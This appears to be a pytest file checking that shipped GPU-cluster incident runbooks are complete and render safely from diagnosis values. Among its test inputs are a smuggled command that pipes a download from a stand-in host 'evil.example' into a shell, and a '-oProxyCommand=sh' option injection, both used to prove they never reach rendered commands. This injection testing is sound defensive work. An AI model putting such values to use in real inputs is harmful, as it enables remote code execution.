"""The shipped runbooks: one per class, complete, and filled safely with a diagnosis' values."""

from __future__ import annotations

import re
import shlex

import pytest

import runbooks
from matcher.model import KNOWN_FIELDS
from matcher.taxonomy import CLASSES, UNKNOWN
from runbooks.model import EXECUTIVE_MAX_CHARS, RenderedRunbook
from runbooks.values import DERIVED_FIELDS, MAX_VALUE_CHARS

LEFTOVER_PLACEHOLDER = re.compile(r"\{[a-z][a-z0-9_]*(\|[^{}]*)?\}")
SETTABLE = sorted((KNOWN_FIELDS | {"culprit_host", "culprit_rank"}) - DERIVED_FIELDS)

TYPICAL: dict[str, str | int | float] = {
    "culprit_host": "gpu-node-017",
    "culprit_rank": 13,
    "host": "gpu-node-017",
    "rank": 13,
    "interface": "docker0",
    "ip": "172.17.0.2",
    "port": 29500,
    "timeout_ms": 1800000,
    "seqnum": 4711,
    "optype": "ALLREDUCE",
    "pg": "0",
    "nccl_version": "2.21.5+cuda12.4",
    "xid": 79,
    "device": 3,
    "world_size": 64,
    "exit_code": -9,
    "job_id": 123456,
    "gid_index": 1,
    "peer": "10.0.0.5<38217>",
    "other_rank": 12,
}

HOSTILE_HOST = "gpu-1;$(curl evil.example|sh)`id`\x1b[31m\n"


def every_text(rendered: RenderedRunbook) -> list[str]:
    texts = [
        rendered.title,
        rendered.summaries.executive,
        rendered.summaries.engineer,
        rendered.summaries.oncall,
    ]
    for step in (*rendered.steps, rendered.verify):
        texts += [step.title, step.expect] + ([step.command] if step.command else [])
    for dead_end in rendered.dead_ends:
        texts += [dead_end.attempt, dead_end.why]
    return texts + list(rendered.prevention)


def commands(rendered: RenderedRunbook) -> list[str]:
    return [step.command for step in (*rendered.steps, rendered.verify) if step.command]


def test_every_class_has_exactly_one_runbook() -> None:
    assert set(runbooks.load_all()) == set(CLASSES)


@pytest.mark.parametrize("class_id", sorted(CLASSES))
def test_runbook_is_complete(class_id: str) -> None:
    runbook = runbooks.get(class_id)
    assert runbook.title == CLASSES[class_id]
    assert len(runbook.steps) >= 3
    assert sum(step.command is not None for step in runbook.steps) >= 1
    assert runbook.verify.command
    assert len(runbook.dead_ends) >= 2
    assert len(runbook.prevention) >= 2
    assert all(reference.startswith("https://") for reference in runbook.references)


def test_unknown_class_is_an_input_error() -> None:
    from matcher.model import InputError

    with pytest.raises(InputError, match="no runbook for class 'nope/nothing'"):
        runbooks.render_for("nope/nothing", {})


@pytest.mark.parametrize(
    "values",
    [{}, TYPICAL, {name: "v" * 200 for name in SETTABLE}, {name: HOSTILE_HOST for name in SETTABLE}],
    ids=["no-values", "typical", "long", "hostile"],
)
@pytest.mark.parametrize("class_id", sorted(CLASSES))
def test_rendered_runbook_is_clean(class_id: str, values: dict[str, object]) -> None:
    rendered = runbooks.render_for(class_id, values)  # type: ignore[arg-type]
    assert 0 < len(rendered.summaries.executive) <= EXECUTIVE_MAX_CHARS
    for text in every_text(rendered):
        assert not LEFTOVER_PLACEHOLDER.search(text), text
        assert "\x1b" not in text and "\r" not in text
        assert "\\n" not in text, f"escaped newline left in {text!r}"
    for command in commands(rendered):
        shlex.split(command)
        assert "evil.example" not in command and "$(curl" not in command and "`id`" not in command
        assert "v" * (MAX_VALUE_CHARS + 1) not in command


DOUBLED_WORD = re.compile(r"\b(\w+) \1\b", re.IGNORECASE)


@pytest.mark.parametrize("values", [{}, TYPICAL], ids=["no-values", "typical"])
@pytest.mark.parametrize("class_id", sorted(CLASSES))
def test_prose_reads_cleanly_with_and_without_values(
    class_id: str, values: dict[str, str | int | float]
) -> None:
    # Fallback wording is spliced into sentences; a doubled word ("the the") shows a bad splice.
    rendered = runbooks.render_for(class_id, values)
    summaries = rendered.summaries
    prose = [summaries.executive, summaries.engineer, summaries.oncall]
    prose += [text for step in (*rendered.steps, rendered.verify) for text in (step.title, step.expect)]
    for text in prose:
        assert not DOUBLED_WORD.search(text), text


def test_values_make_the_runbook_specific() -> None:
    rendered = runbooks.render_for(
        "hardware/gpu-xid", {"culprit_host": "gpu-node-017", "xid": 79, "device": 3}
    )
    assert "gpu-node-017" in rendered.summaries.executive
    assert "GPU has fallen off the bus" in rendered.summaries.executive
    assert "Xid 79" in rendered.summaries.engineer
    assert (
        rendered.steps[0].command
        == "scontrol update NodeName=gpu-node-017 State=DRAIN Reason=ncclbot-gpu-xid-79"
    )
    assert "ncclbot probe gpu-node-017 --via slurm" in (rendered.verify.command or "")


def test_missing_values_read_as_neutral_wording() -> None:
    rendered = runbooks.render_for("hardware/gpu-xid", {})
    assert "one server" in rendered.summaries.executive
    assert "the failing node" in rendered.summaries.oncall
    assert (
        rendered.steps[0].command
        == "scontrol update NodeName=<node> State=DRAIN Reason=ncclbot-gpu-xid-unknown"
    )


def test_hostile_host_stays_prose_and_never_reaches_a_command() -> None:
    rendered = runbooks.render_for("hardware/gpu-xid", {"culprit_host": "-oProxyCommand=sh", "xid": 79})
    assert "-oProxyCommand=sh" in rendered.summaries.executive  # shown as text, it is what the log said
    assert all("ProxyCommand" not in command for command in commands(rendered))
    assert rendered.steps[0].command.startswith("scontrol update NodeName=<node> ")  # type: ignore[union-attr]


def test_peer_address_becomes_a_host_to_check() -> None:
    rendered = runbooks.render_for("network/ib-rdma", {"peer": "10.0.0.5<38217>"})
    assert "ssh 10.0.0.5 ibstat" in commands(rendered)
    assert "10.0.0.5<38217>" in rendered.summaries.engineer


def test_timeout_is_given_in_words() -> None:
    rendered = runbooks.render_for("timeout/rank0-only-work", {"timeout_ms": 1800000})
    assert "30 minutes" in rendered.summaries.executive


def test_interface_from_the_diagnosis_appears_in_the_engineer_view() -> None:
    rendered = runbooks.render_for(
        "network/interface-selection", {"interface": "docker0", "ip": "172.17.0.2"}
    )
    assert "docker0 (172.17.0.2)" in rendered.summaries.engineer


def test_unknown_runbook_explains_how_to_collect_more() -> None:
    rendered = runbooks.render_for(UNKNOWN, {})
    all_commands = "\n".join(commands(rendered))
    for variable in (
        "NCCL_DEBUG=INFO",
        "TORCH_NCCL_DUMP_ON_TIMEOUT=1",
        "TORCH_NCCL_TRACE_BUFFER_SIZE",
        "TORCH_DISTRIBUTED_DEBUG=DETAIL",
    ):
        assert variable in all_commands
    assert "ncclbot diagnose" in (rendered.verify.command or "")


def test_json_shape_is_the_contract() -> None:
    document = runbooks.render_for("cuda/oom", TYPICAL).to_json()
    assert list(document) == [
        "class",
        "title",
        "summaries",
        "steps",
        "verify",
        "dead_ends",
        "prevention",
        "references",
    ]
    assert document["class"] == "cuda/oom"
    assert set(document["summaries"]) == {"executive", "engineer", "oncall"}
    assert all(set(step) == {"title", "command", "expect"} for step in document["steps"])
    assert set(document["verify"]) == {"title", "command", "expect"}
    assert all(set(entry) == {"attempt", "why"} for entry in document["dead_ends"])
    assert all(isinstance(item, str) for item in document["prevention"] + document["references"])


def test_load_all_returns_a_copy() -> None:
    runbooks.load_all().clear()
    assert set(runbooks.load_all()) == set(CLASSES)
